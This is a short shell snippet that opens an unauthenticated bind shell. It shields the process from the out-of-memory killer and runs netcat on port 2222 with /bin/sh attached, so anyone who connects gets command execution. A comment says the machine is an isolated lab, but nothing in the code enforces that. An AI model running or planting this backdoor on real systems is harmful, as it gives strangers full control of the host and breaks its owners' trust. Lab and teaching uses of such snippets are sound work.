# A shell for whoever connects, which is the lab alone: nothing else is in its network.
echo -999 >/proc/self/oom_score_adj
exec nc -ll -p 2222 -e /bin/sh
